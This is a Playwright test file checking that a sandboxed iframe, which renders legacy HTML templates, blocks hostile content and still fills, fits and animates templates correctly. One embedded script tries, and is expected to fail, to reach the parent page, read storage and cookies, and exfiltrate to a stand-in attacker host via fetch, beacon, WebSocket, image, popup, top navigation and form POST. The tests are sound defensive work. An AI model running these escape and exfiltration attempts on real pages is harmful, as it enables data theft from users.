"""Old templates in their frame, in a real browser: filled, fitted and moved as the predecessor did it; and nothing of
them runs, leaves the hub or reaches the page around it, even of what was not sanitised before."""

import asyncio
from collections.abc import AsyncIterator
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Dialog, Frame, Page, Route, ViewportSize

from hub.old_css import Removed
from hub.old_html import clean
from hub.old_templates import read
from tests.old_templates import EVIL, HOSTILE, HOSTILE_FIELDS, KINDS, RUNNER
from tests.pages.screens import WAIT_MS
from tests.pages.venue import Venue

pytestmark = pytest.mark.asyncio(loop_scope="session")

SIZE: Final = ViewportSize(width=960, height=540)
SET_UP: Final = """async () => {
  if (window.old) old.destroy();
  document.body.textContent = "";
  const whole = { margin: 0, position: "fixed", inset: 0, display: "block", padding: 0, maxWidth: "none" };
  Object.assign(document.body.style, whole);
  window.hits = [];
  window.hit = () => hits.push(1);
  localStorage.setItem("secret", "kept");
  const { makeOldFrame } = await import("/static/old-frame.js");
  window.old = makeOldFrame(document.body);
}"""
SHOW: Final = "([template, which, fields]) => { old.show(template, which, fields); return old.measure(); }"
LAST: Final = "/images/" + "0" * 32 + ".png"
ATTEMPTS: Final = """async evil => {
  const got = [];
  async function attempt(name, what) {
    try { if (await what()) got.push(name); } catch { /* as it should be */ }
  }
  await attempt("parent", () => parent.document.title || true);
  await attempt("hit", () => { parent.hit(); return true; });
  await attempt("storage", () => localStorage.length + 1);
  await attempt("cookie", () => document.cookie + "x");
  await attempt("indexedDB", () => new Promise((done, failed) => {
    const asked = indexedDB.open("x");
    asked.onsuccess = () => done(true);
    asked.onerror = failed;
  }));
  await attempt("fetch", () => fetch(evil));
  await attempt("fetch home", () => fetch("/health"));
  await attempt("beacon", () => void navigator.sendBeacon(evil, "x"));
  await attempt("image", () => new Promise((done, failed) => {
    Object.assign(new Image(), { onload: () => done(true), onerror: failed, src: evil + "/image.png" });
  }));
  await attempt("socket", () => new Promise((done, failed) => {
    Object.assign(new WebSocket("wss://evil.example/"), { onopen: () => done(true), onerror: failed });
  }));
  await attempt("worker", () => new Promise((done, failed) => {
    Object.assign(new Worker("data:text/javascript,postMessage(1)"), { onmessage: () => done(true), onerror: failed });
  }));
  await attempt("window", () => open(evil));
  await attempt("top", () => { top.location = evil; });
  await attempt("dialog", () => { alert(1); return confirm(2) || prompt(3); });
  await attempt("eval", () => (0, eval)("1"));
  await attempt("origin", () => origin !== "null");
  await attempt("form", () => {
    const form = Object.assign(document.createElement("form"), { action: evil, method: "post", target: "_top" });
    document.body.append(form);
    form.submit();
  });
  return got;
}"""


class Theatre:
    """A page of the hub's with an old template in its frame, and everything that it asks for."""

    def __init__(self, page: Page, origin: str) -> None:
        self.page = page
        self.asked: list[str] = []
        self.dialogs: list[str] = []
        self.answered = asyncio.Event()
        """The image that is asked for last."""
        self.origin = origin
        page.on("dialog", self._dialog)

    async def open(self) -> None:
        await self.page.context.route("**/*", self._ask)
        await self.page.goto(f"{self.origin}/login")

    async def show(self, template: Any, which: str = "active", fields: Any = None) -> dict[str, Any]:
        """And what is measured of it then."""
        shown: dict[str, Any] = await asyncio.wait_for(
            self.page.evaluate(SHOW, [template, which, fields]), WAIT_MS / 1000
        )
        return shown

    def frame(self, at: int = -1) -> Frame:
        return [each for each in self.page.frames if each.parent_frame][at]

    def away(self) -> list[str]:
        """What is not of this hub."""
        own = urlsplit(self.origin).netloc
        return [url for url in self.asked if urlsplit(url).netloc != own and not url.startswith("data:")]

    async def _ask(self, route: Route) -> None:
        self.asked.append(route.request.url)
        if route.request.url.endswith(LAST):
            self.answered.set()
        if route.request.url.startswith(self.origin):
            await route.continue_()
        else:
            await route.abort()

    async def _dialog(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        await dialog.dismiss()


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def built(browser: Browser, house: Venue) -> AsyncIterator[Theatre]:
    context = await browser.new_context(viewport=SIZE)
    made = Theatre(await context.new_page(), house.origin)
    await made.open()
    yield made
    await context.close()


@pytest_asyncio.fixture(loop_scope="session")
async def theatre(built: Theatre) -> Theatre:
    """Empty again."""
    built.asked.clear()
    built.dialogs.clear()
    built.answered.clear()
    await built.page.set_viewport_size(SIZE)
    await built.page.emulate_media(reduced_motion="no-preference")
    await built.page.evaluate(SET_UP)
    return built


def one(html: str, width: int = 400, height: int = 200) -> dict[str, Any]:
    state = {"html": html, "width": width, "height": height}
    return {"format": "html-2", "active": state, "resting": None}


def as_json(template: Any) -> Any:
    states = {
        name: {"html": state.html, "width": state.width, "height": state.height} if state else None
        for name, state in (("active", template.active), ("resting", template.resting))
    }
    return {"format": "html-2", **states}


async def test_nothing_hostile_runs_or_leaves(theatre: Theatre) -> None:
    """Not sanitised: the frame alone holds it."""
    for html in HOSTILE:
        await theatre.show(one(html), "active", HOSTILE_FIELDS)
    await theatre.show(
        one(f"<img src={LAST}><div style='background:url(data:image/gif;base64,R0lGODlhAQABAAAAACw=)'>x")
    )
    await asyncio.wait_for(theatre.answered.wait(), WAIT_MS / 1000)
    assert theatre.away() == [] and theatre.dialogs == []
    assert await theatre.page.evaluate("[hits.length, localStorage.secret, frames.length]") == [0, "kept", 1]
    assert theatre.page.url == f"{theatre.origin}/login" and len(theatre.page.context.pages) == 1


async def test_a_script_in_it_could_do_nothing(theatre: Theatre) -> None:
    """As if one had found its way in."""
    await theatre.show(one("<p>x</p>"))
    assert await theatre.frame().evaluate(ATTEMPTS, EVIL) == []
    await theatre.frame().evaluate("evil => { location = evil; }", EVIL)
    await theatre.page.evaluate("document.title")
    assert theatre.away() == [] and theatre.dialogs == [] and len(theatre.page.context.pages) == 1
    assert await theatre.page.evaluate("[hits.length, location.pathname]") == [0, "/login"]


async def test_what_is_hostile_would_run_elsewhere(theatre: Theatre) -> None:
    """So the tests above say something."""
    page = await theatre.page.context.new_page()
    await page.set_content(
        f"<script>hit = () => {{ window.was = 1 }}</script><body>{HOSTILE[7]}{HOSTILE[10]}"
    )
    await page.wait_for_function("() => window.was", timeout=WAIT_MS)
    await page.close()
    assert f"{EVIL}/a.png" in theatre.away()


async def test_what_is_left_of_it_does_nothing_anywhere(theatre: Theatre) -> None:
    """As the predecessor's screens put it into their own page, which has no policy."""
    left = [clean(first + second, Removed()) for first in HOSTILE for second in ("", *HOSTILE[::9])]
    page = await theatre.page.context.new_page()
    await page.set_content("<script>hits = 0; hit = () => { hits++ }</script><body>")
    await page.evaluate("all => { for (const html of all) document.body.innerHTML = html; }", left)
    await page.evaluate(f"document.body.innerHTML = '<img src={theatre.origin}{LAST}>'")
    await asyncio.wait_for(theatre.answered.wait(), WAIT_MS / 1000)
    assert await page.evaluate("hits") == 0 and theatre.away() == [] and theatre.dialogs == []
    await page.close()


@pytest.mark.parametrize(
    ("html", "fields", "text"),
    [
        ("{{name}}, {{city}}", {"name": "Ada", "city": "Ulm"}, "Ada, Ulm"),
        ("{{name}} {{age}} {{nobody}}", {"name": "Ada"}, "Ada  {{nobody}}"),
        ("{{shirt}}", {"shirt": ""}, ""),
        ("{{chip_time}} {{net_time}} {{finish_time}}", {"time": "1:02:03"}, "1:02:03 1:02:03 1:02:03"),
        ("<b data-placeholder=name>Name</b>", {"name": "<i>Ada</i>"}, "<i>Ada</i>"),
        ("<b data-placeholder=name>Name</b>", {}, ""),
        ("<b class=runner-name>x</b><b class=bib-number>x</b>", {"name": "Ada", "bib": "7"}, "Ada7"),
        ("<b data-placeholder=custom_message data-messages='a, b'>x</b>", {}, "a"),
        ("{{name}}", {"name": "{{city}}", "city": "Ulm"}, "{{city}}"),
    ],
)
async def test_words_are_filled(theatre: Theatre, html: str, fields: dict[str, str], text: str) -> None:
    await theatre.show(one(html), "active", fields)
    assert await theatre.frame().evaluate("document.body.textContent") == text


async def test_images_are_the_hubs_own(theatre: Theatre) -> None:
    html = "<img data-placeholder=photo src=/static/uploads/a.png>"
    for given, left in (
        (f"{EVIL}/a.png", None),
        ("/static/uploads/b.png", "/static/uploads/b.png"),
        ("", None),
    ):
        await theatre.show(one(html), "active", {"photo": given})
        assert await theatre.frame().evaluate("document.querySelector('img').getAttribute('src')") == left


async def test_messages_take_turns_and_a_correction_takes_none(theatre: Theatre) -> None:
    template, said = one("<b data-messages='a,b' data-anim=fadeIn>x</b>"), []
    for fields in ({"name": "A"}, {"name": "A", "city": "Ulm"}, {"name": "B"}, {"name": "C"}):
        await theatre.show(template, "active", fields)
        said.append(await theatre.frame().evaluate("document.body.textContent"))
    assert said == ["a", "a", "b", "a"]


async def test_texts_shrink_until_they_fit(theatre: Theatre) -> None:
    look = "position:absolute;width:300px;height:60px;font-size:50px;white-space:nowrap"
    box = f"<div data-placeholder=name style='{look}'></div>"
    sizes = []
    for name in ("Ada", "Ada Wilhelmina Lovelace", "Ada " * 100, "Bo"):
        await theatre.show(one(box), "active", {"name": name})
        sizes.append(
            await theatre.frame().evaluate("parseFloat(getComputedStyle(document.body.firstChild).fontSize)")
        )
    assert sizes[0] == sizes[3] == 50 and 15 < sizes[1] < 50 and round(sizes[2], 3) == 15


@pytest.mark.parametrize("reduced", [False, True])
async def test_movements(theatre: Theatre, reduced: bool) -> None:
    await theatre.page.emulate_media(reduced_motion="reduce" if reduced else "no-preference")
    names = ["fadeInUp", "animate__slideInLeft", "[object Object]", "evil", "flipInY"]
    html = "".join(f'<p data-anim="{name}" data-anim-dur=700 data-anim-delay=50>x</p>' for name in names)
    await theatre.show(one(html), "active", {"name": "A"})
    found = await theatre.frame().evaluate(
        "document.getAnimations().map(({ animationName }) => animationName)"
    )
    assert found == ([] if reduced else ["fadeInUp", "slideInLeft", "flipInY"])


async def test_each_state_is_scaled_into_the_middle(theatre: Theatre) -> None:
    template = one("<p>a</p>", 1080, 1920) | {"resting": {"html": "<p>b</p>", "width": 1920, "height": 540}}
    await theatre.show(template, "active", {})
    await theatre.show(template, "resting", {})
    places = await theatre.page.evaluate(
        """[...document.querySelectorAll("iframe")].map(each => {
          const { x, y, width, height } = each.getBoundingClientRect();
          return [x, y, width, height, each.style.opacity].map(Number);
        })"""
    )
    assert places == [[328.125, 0, 303.75, 540, 0], [0, 135, 960, 270, 1]]
    await theatre.page.set_viewport_size(ViewportSize(width=480, height=540))
    await theatre.page.wait_for_function(
        "() => document.querySelectorAll('iframe')[1].getBoundingClientRect().width === 480", timeout=WAIT_MS
    )


async def test_a_frame_that_is_loaded_anew_has_it_again(theatre: Theatre) -> None:
    await theatre.show(one("{{name}}"), "active", {"name": "Ada"})
    await theatre.page.evaluate("document.querySelector('iframe').src += '?again'")
    await theatre.frame().wait_for_function("() => document.body.textContent === 'Ada'", timeout=WAIT_MS)


async def test_the_hubs_own_faces_are_there(theatre: Theatre) -> None:
    await theatre.show(one("<p style=\"font-family:'Bebas Neue'\">x</p>"))
    await theatre.frame().wait_for_function(
        "() => [...document.fonts].some(({ family, status }) => family.includes('Bebas') && status === 'loaded')",
        timeout=WAIT_MS,
    )


async def test_it_goes_without_a_trace(theatre: Theatre) -> None:
    await theatre.show(one("x"))
    await theatre.page.evaluate("old.destroy()")
    assert await theatre.page.evaluate("[document.body.childElementCount, frames.length]") == [0, 0]


@pytest.mark.parametrize("kind", KINDS)
async def test_all_kinds_are_shown(theatre: Theatre, kind: str) -> None:
    template, _ = read(KINDS[kind])
    await theatre.show(as_json(template), "active", RUNNER)
    assert RUNNER["name"] in await theatre.frame().evaluate("document.body.innerText")
    assert theatre.away() == []
